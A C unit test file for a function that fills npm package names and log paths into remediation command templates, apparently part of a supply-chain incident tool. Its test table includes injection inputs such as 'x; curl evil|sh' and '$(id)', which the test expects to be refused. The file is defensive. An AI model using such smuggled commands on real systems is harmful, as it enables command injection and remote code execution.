// SPDX-License-Identifier: GPL-2.0-only
/* test_remedy.c - commands that can be copied, and none that the attacker writes. */
#include "buf.h"
#include "cleanup.h"
#include "cmocka_all.h"
#include "remedy.h"

static void filled_in(void **state)
{
	static const struct {
		const char *remedy, *package, *log, *want;
	} table[] = {
		{ "npm uninstall PACKAGE; npm view PACKAGE scripts", "@acme/x", NULL,
		  "npm uninstall @acme/x; npm view @acme/x scripts" },
		{ "npm uninstall PACKAGE@1", "x", NULL, "npm uninstall x@1" },
		{ "wormsign report LOG", "x", "/var/log/x.jsonl",
		  "wormsign report /var/log/x.jsonl" },
		{ "YOURPACKAGE NPM_PACKAGE PACKAGES PACKAGE-X", "x", "y",
		  "YOURPACKAGE NPM_PACKAGE PACKAGES PACKAGE-X" },
		{ "npm uninstall PACKAGE", NULL, NULL, "npm uninstall PACKAGE" },
		{ "npm uninstall PACKAGE", "", NULL, "npm uninstall PACKAGE" },
		{ "npm uninstall PACKAGE", "x; curl evil|sh", NULL, "npm uninstall PACKAGE" },
		{ "npm uninstall PACKAGE", "$(id)", NULL, "npm uninstall PACKAGE" },
		{ "npm uninstall PACKAGE", "-g", NULL, "npm uninstall PACKAGE" },
		{ "npm uninstall PACKAGE", "x\ny", NULL, "npm uninstall PACKAGE" },
		{ "", "x", "y", "" },
	};

	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(table); i++) {
		struct buf out = BUF_INIT;

		remedy_text(&out, table[i].remedy, table[i].package, table[i].log);
		assert_string_equal(out.at, table[i].want);
		buf_free(&out);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(filled_in),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
